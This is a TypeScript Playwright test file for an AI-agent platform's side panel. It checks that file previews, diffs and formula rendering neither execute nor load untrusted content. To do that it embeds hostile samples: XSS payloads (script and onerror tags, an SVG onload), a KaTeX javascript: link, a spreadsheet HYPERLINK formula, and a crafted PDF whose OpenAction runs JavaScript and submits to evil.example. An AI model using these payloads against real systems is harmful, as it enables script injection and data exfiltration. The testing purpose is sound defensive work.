/** The panel beside a conversation: changed files, previews of untrusted files, canvases, and formulas in answers. */
import assert from 'node:assert/strict'
import { after, afterEach, before, describe, test } from 'node:test'
import { type MailServer, startMailServer } from '@roost/test-support/mail/index'
import type { Page } from 'playwright-core'
import { answerOf, chat, createAgent, docker } from '../acceptance/steps.ts'
import {
  assertAccessible,
  assertNoSideways,
  type Bench,
  closeTab,
  openBench,
  saveScreenshot,
  type Tab,
  themes,
} from './bench.ts'
import { reportFailure } from './evidence.ts'
import { signInUser } from './users.ts'

const name = 'qa-panel'
const ann = 'ann@example.com'
const harm = '<script>window.harmed = 1</script><img src=x onerror="window.harmed = 2">'
const hostileFormula =
  '$\\href{javascript:window.harmed=3}{x}$ $\\includegraphics{https://evil.example/a.png}$ $\\def\\a{\\a\\a}\\a$'
const formulas = [
  'It costs $5 and $10.',
  'Energy is $E = mc^2$, a vector $\\vec{v}$, a box $\\boxed{y}$.',
  '$$\\frac{a}{b}$$',
  hostileFormula,
]

/** Starts a script and opens an address, as far as a viewer lets it. */
const pdf = `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\('https://evil.example/'\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>/Annots[6 0 R]>>endobj
4 0 obj<</Length 55>>stream
BT /F1 24 Tf 20 100 Td (Quarterly figures) Tj ET
endstream endobj
5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
6 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(https://evil.example/)>>>>endobj
trailer<</Root 1 0 R>>
`

/** Until a run is recorded, the panel shows what its tools report. */
const changeLists = /^(Changed files|Recorded changes)$/
const write = (path: string, content: string) =>
  `[[tool:Write:${JSON.stringify({ file_path: `/home/developer/${path}`, content })}]] [[reply:written]]`
const long = Array.from({ length: 1200 }, (_, index) => `row ${index + 1}`).join('\n')

describe('the panel beside a conversation', () => {
  let bench: Bench
  let mail: MailServer
  let session = ''
  let shared = ''
  before(async () => {
    mail = await startMailServer()
    bench = await openBench({ env: { ROOST_MAIL_URL: mail.url } })
    const { platform } = bench
    await createAgent(platform, name)
    await answerOf(platform, name, '[[reply:ready]]')
    const begun = await platform.request('POST', `/api/agents/${name}/sessions`, {})
    session = begun.json.id
    const say = async (message: string) => {
      const reply = await chat(platform, name, message, { path: `sessions/${session}/message` })
      assert.equal(reply.status, 200, reply.text)
    }
    await say(write('long.txt', long))
    await say(write('src/plan.ts', `const plan = 1\n// ${harm}\n`))
    await say('[[tool:Bash:echo by-shell > shell.txt]] [[reply:done]]')
    await say(`${formulas.join('\n\n')}\n\n[[echo]]`)
    const put = async (path: string, content: string) => {
      const address = `/api/agents/${name}/files?path=${encodeURIComponent(path)}`
      assert.equal((await platform.request('PUT', address, { content })).status, 200)
    }
    await put('data.csv', `city,people\n"Bern, old",=HYPERLINK("https://evil.example/")\n${harm},2\n`)
    await put('notes.md', `# Notes\n\n${harm}\n\n![x](https://evil.example/x.png) and $a^2$\n`)
    await put('page.html', harm)
    await put(
      'drawing.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" onload="window.harmed = 4">${harm}</svg>`,
    )
    await put('code.py', 'def main():\n    return 42\n')
    const encoded = Buffer.from(pdf).toString('base64')
    const box = platform.containerOf(name)
    await docker(
      ...['exec', '-u', 'developer', '-w', '/home/developer', box, 'sh', '-c'],
      `echo ${encoded} | base64 -d > report.pdf; echo '%PDF-1.4 broken' > broken.pdf`,
    )
    const canvas = {
      title: 'Open work',
      blocks: [{ kind: 'markdown', payload: { markdown: 'Sum: $\\sum_i x_i$' } }],
    }
    const stored = await platform.request('PUT', `/api/agents/${name}/canvas/main`, canvas)
    assert.equal(stored.status, 200, stored.text)
    shared = await signInUser({ platform, mail }, ann)
    await platform.request('POST', `/api/agents/${name}/share`, { email: ann })
  })
  after(async () => {
    await bench?.[Symbol.asyncDispose]()
    await mail?.close()
  })
  afterEach((context) => reportFailure(bench, context))

  const panel = (page: Page) => page.getByRole('complementary', { name: 'Side panel' })
  const open = async (options: Parameters<Bench['open']>[0] = {}, id = session): Promise<Tab> => {
    const tab = await bench.open({ width: 1440, ...options })
    await tab.goto(`/agents/${name}?tab=chat&session=${id}`)
    await tab.page.getByRole('textbox', { name: `Message to ${name}` }).waitFor()
    return tab
  }
  const assertUnharmed = async ({ page }: Tab) =>
    assert.equal(await page.evaluate('window.harmed'), undefined)
  const choose = async (page: Page, file: string) => {
    await page.getByRole('treeitem', { name: file, exact: true }).click()
    await page.getByRole('heading', { name: file, exact: true }).waitFor()
  }

  test('shows the files that the conversation changed as diffs of any length', async () => {
    const tab = await open()
    const { page } = tab
    await page.getByRole('button', { name: 'Open changes' }).click()
    const turn = (file: string) =>
      panel(page).getByRole('list', { name: 'Recorded changes' }).filter({ hasText: file })
    await turn('shell.txt').waitFor()
    await turn('long.txt')
      .getByRole('button', { name: /long\.txt/ })
      .click()
    const diff = panel(page).getByRole('group', { name: 'Changes of long.txt' })
    await diff.getByText('+row 499', { exact: true }).waitFor()
    await panel(page)
      .getByRole('button', { name: /^Show 500 more of \d+ lines$/ })
      .click()
    await panel(page)
      .getByRole('button', { name: /^Show 20\d more of 20\d lines$/ })
      .click()
    const last = diff.locator('pre > div').filter({ has: page.locator('[data-line="1200"]') })
    assert.match((await last.getAttribute('class')) ?? '', /bg-success-soft/)
    await turn('src/plan.ts')
      .getByRole('button', { name: /src\/plan\.ts/ })
      .click()
    await turn('src/plan.ts').getByRole('button', { name: 'Show the file' }).click()
    await page.getByRole('textbox', { name: 'Text of plan.ts' }).getByText('const plan').waitFor()
    await assertUnharmed(tab)
    await closeTab(tab)
  })

  test('a new change appears while the panel is open', async () => {
    const begun = await bench.platform.request('POST', `/api/agents/${name}/sessions`, {})
    const tab = await open({}, begun.json.id)
    const { page } = tab
    await page.keyboard.press('Control+.')
    await panel(page).getByText('No changed files').waitFor()
    await page.getByRole('textbox', { name: `Message to ${name}` }).fill(write('live.txt', 'live'))
    await page.keyboard.press('Enter')
    await panel(page).getByRole('list', { name: changeLists }).getByText('live.txt').first().waitFor()
    await closeTab(tab)
  })

  test('opens, closes and resizes by keyboard, and is remembered', async () => {
    const tab = await open()
    const { page } = tab
    await page.getByRole('textbox', { name: `Message to ${name}` }).focus()
    await page.keyboard.press('Control+.')
    await panel(page).getByRole('tab', { name: 'Canvas' }).click()
    await panel(page).getByRole('heading', { name: 'Open work' }).waitFor()
    await panel(page).locator('.katex').first().waitFor()
    const width = () => panel(page).evaluate((element) => element.clientWidth)
    const before = await width()
    await page.getByRole('separator', { name: 'Width of the side panel' }).focus()
    await page.keyboard.press('ArrowRight')
    assert.ok((await width()) < before)
    await page.reload()
    await panel(page).getByRole('heading', { name: 'Open work' }).waitFor()
    assert.ok((await width()) < before)
    await panel(page).getByRole('button', { name: 'Close the side panel' }).click()
    await panel(page).waitFor({ state: 'detached' })
    assert.equal(await page.getByRole('button', { name: 'Open canvas' }).evaluate(isFocused), true)
    await page.keyboard.press('Control+.')
    await panel(page).getByRole('heading', { name: 'Open work' }).waitFor()
    await closeTab(tab)
  })

  test('previews code, Markdown, tables and PDF files without running or loading anything', async () => {
    const tab = await open()
    const { page } = tab
    await page.getByRole('button', { name: 'Open files' }).click()
    await choose(page, 'code.py')
    await page.getByRole('textbox', { name: 'Text of code.py' }).getByText('return').waitFor()
    await choose(page, 'data.csv')
    const table = page.getByRole('grid', { name: 'Table of data.csv' })
    await table.getByText('Bern, old').waitFor()
    await table.getByText('=HYPERLINK("https://evil.example/")').waitFor()
    await choose(page, 'notes.md')
    await panel(page).getByRole('heading', { name: 'Notes', exact: true }).waitFor()
    await panel(page).locator('.katex').waitFor()
    await choose(page, 'page.html')
    await page.getByRole('textbox', { name: 'Text of page.html' }).waitFor()
    await choose(page, 'drawing.svg')
    await page.getByRole('textbox', { name: 'Text of drawing.svg' }).waitFor()
    await choose(page, 'report.pdf')
    await panel(page).getByText('Quarterly figures').waitFor()
    const drawn = await page.getByRole('img', { name: 'Page 1' }).evaluate((canvas: HTMLCanvasElement) => {
      const pixels = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data ?? []
      return pixels.some((value, index) => index % 4 === 0 && value < 128)
    })
    assert.ok(drawn, 'the page of the PDF file is blank')
    await saveScreenshot(tab, 'side-panel-pdf-light-desktop')
    await choose(page, 'broken.pdf')
    await page.getByText('broken.pdf is not text').waitFor()
    await assertUnharmed(tab)
    assert.equal(await panel(page).locator('iframe, object, embed, script').count(), 0)
    await closeTab(tab)
  })

  test('draws formulas of an answer, and leaves amounts of money and hostile formulas alone', async () => {
    const tab = await open()
    const { page } = tab
    const answer = page.getByRole('list', { name: 'Conversation' }).locator('> li').nth(3)
    await answer.scrollIntoViewIfNeeded()
    await answer.locator('.katex math').first().waitFor({ state: 'attached' })
    await answer.getByText('It costs $5 and $10.').last().waitFor()
    await answer.getByText('\\def\\a{\\a\\a}\\a').last().waitFor()
    const shown = answer.locator('.katex')
    await shown.nth(3).waitFor()
    const texts = await shown.locator('annotation').allTextContents()
    for (const tex of ['E = mc^2', '\\vec{v}', '\\boxed{y}', '\\frac{a}{b}'])
      assert.ok(texts.includes(tex), tex)
    assert.equal(await answer.locator('.katex a, .katex img, a[href^="javascript"]').count(), 0)
    await assertUnharmed(tab)
    await saveScreenshot(tab, 'chat-formulas-light-desktop')
    await closeTab(tab)
  })

  test('a person with a share sees no terminal; the owner does', async () => {
    const tab = await open({ token: shared }, 'new')
    await tab.page.getByRole('button', { name: 'Open files' }).click()
    await panel(tab.page).getByRole('treeitem', { name: 'data.csv' }).waitFor()
    assert.equal(await tab.page.getByRole('tab', { name: 'Terminal' }).count(), 0)
    await closeTab(tab)
    const owner = await open()
    await owner.page.getByRole('button', { name: 'Open terminal' }).click()
    await panel(owner.page).getByText('User developer in /home/developer').waitFor()
    await closeTab(owner)
  })

  for (const width of [1440, 390]) {
    test(`has no axe violations in both themes at ${width} px`, async () => {
      const tab = await open({ width })
      const { page } = tab
      if (width < 768) await page.getByRole('button', { name: 'Open the side panel' }).click()
      else await page.keyboard.press('Control+.')
      for (const [part, ready] of [
        ['Changes', () => page.getByRole('list', { name: 'Recorded changes' }).first().waitFor()],
        ['Files', () => page.getByRole('treeitem', { name: 'data.csv' }).click()],
        ['Canvas', () => page.getByRole('heading', { name: 'Open work' }).waitFor()],
        ['Reports', () => page.getByText('No reports yet').waitFor()],
      ] as const) {
        await page.getByRole('tab', { name: part }).click()
        await ready()
        if (part === 'Files') await page.getByRole('grid', { name: 'Table of data.csv' }).waitFor()
        for (const theme of themes) {
          await page.emulateMedia({ colorScheme: theme })
          await page.locator(`html[data-theme=${theme}]`).waitFor()
          const what = `side-panel-${part.toLowerCase()}-${theme}-${width}`
          await saveScreenshot(tab, what)
          await assertNoSideways(tab, what)
          await assertAccessible(tab, what, theme === 'light' ? 'all' : 'colours')
        }
      }
      if (width < 768) {
        await page.getByRole('button', { name: 'Close', exact: true }).click()
        await page.getByRole('textbox', { name: `Message to ${name}` }).waitFor()
      }
      await closeTab(tab)
    })
  }
})

const isFocused = (element: Element) => element === element.ownerDocument.activeElement
